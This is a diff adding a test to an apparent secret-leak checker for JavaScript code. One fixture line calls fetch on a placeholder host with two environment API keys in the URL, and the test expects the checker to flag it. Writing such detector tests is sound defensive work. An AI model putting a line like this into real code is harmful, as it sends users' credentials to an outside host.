@@ -183,3 +183,20 @@ def test_one_of_two_variables_is_one_secret(source: str) -> None:
 )
 def test_several_variables_are_more_than_one_secret(source: str) -> None:
     assert worst(findings_of(CHECK, START + source), RULE) == Severity.CRITICAL
+
+
+def test_the_keys_of_a_client_that_makes_addresses_are_not_what_is_sent() -> None:
+    """Either of two variables holds the key of a service; what it is put into is not known."""
+    source = """
+    const read = (name) => process.env[name]?.trim();
+    const either = () => { const a = read("ONE_API_KEY"), b = read("TWO_API_KEY"); return a || b; };
+    class Client {
+      constructor(key) { this.key = key || either(); }
+      request(path) { return this.call(make(path, this.key).toString(), {}); }
+      call(address, init) { return fetch(address, init); }
+    }
+    new Client().request(path);
+    """
+    assert findings_of(CHECK, source) == []
+    sent = "fetch(`https://a.invalid/?${process.env.ONE_API_KEY}${process.env.TWO_API_KEY}`)"
+    assert len(findings_of(CHECK, sent)) == 1
